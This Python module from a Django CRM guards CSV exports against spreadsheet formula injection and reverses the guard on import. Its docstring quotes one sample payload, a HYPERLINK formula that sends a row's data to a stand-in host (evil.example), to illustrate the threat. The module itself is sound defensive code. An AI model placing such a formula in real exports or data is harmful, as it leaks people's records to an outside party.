"""Every CSV file the product writes goes through here, and the importer reads cells back with
the same rule, so a file exported from any page opens safely in a spreadsheet and imports
again to exactly what was exported.

Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return as a formula, so a survey comment
``=HYPERLINK("http://evil.example/?d="&A2,"Open report")`` would become a live link that
leaks the row. Every *text* cell starting with one of those is written with a leading ``'``,
which spreadsheets show as text and do not display. Numbers, dates and booleans are written
raw so a spreadsheet can still compute with them (``-20.05`` stays a number).

The guard is reversible: text that itself starts with ``'`` gets a second one, and
``unguard_text`` removes exactly one ``'`` when what follows starts with a guarded character
or ``'``. A phone ``+44 20 7946 0000`` is written ``'+44 20 7946 0000`` and imported back as
``+44 20 7946 0000``; a name ``'Tis`` is written ``''Tis`` and read back as ``'Tis``; a cell
typed by hand as ``'hello`` stays ``'hello``.

Downloads start with a UTF-8 byte-order mark, which Excel needs to read ``Zoë Müller GmbH``
as UTF-8 rather than as ``ZoÃ« MÃ¼ller GmbH``; the importer drops it again.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

from django.http import HttpResponse

from crm.imports.columns import render_cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
BOM = "\ufeff"


def guard_text(text: str) -> str:
    """``text`` as a cell that no spreadsheet runs as a formula (see the module docstring)."""
    if text.startswith((*FORMULA_STARTS, GUARD)):
        return GUARD + text
    return text


def unguard_text(text: str) -> str:
    """The text ``guard_text`` was given: one leading ``'`` removed where the guard added it."""
    if text.startswith(GUARD) and text[1:].startswith((*FORMULA_STARTS, GUARD)):
        return text[1:]
    return text


def csv_cell(value: Any) -> str:
    """What a CSV cell holds for ``value``: text (and lists of names) guarded, anything else
    written as the importer reads it (``crm.imports.columns.render_cell``)."""
    text = render_cell(value)
    if isinstance(value, str | list | tuple):
        return guard_text(text)
    return text


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``csv_cell``."""

    def __init__(self, out: TextIO, *, bom: bool = False):
        if bom:
            out.write(BOM)
        self._writer = csv.writer(out)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value) for value in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)

    def write_cells(self, rows: Iterable[list[str]]) -> None:
        """Rows whose cells already went through ``csv_cell`` (to sort them by their text):
        written as they are, so nothing is guarded twice."""
        self._writer.writerows(rows)


def csv_attachment(filename: str) -> HttpResponse:
    """An empty CSV download named ``filename``; write to it with ``CsvWriter(bom=True)``."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_download(filename: str) -> tuple[HttpResponse, CsvWriter]:
    """A CSV download named ``filename`` that Excel opens as UTF-8, and its writer."""
    response = csv_attachment(filename)
    return response, CsvWriter(response, bom=True)
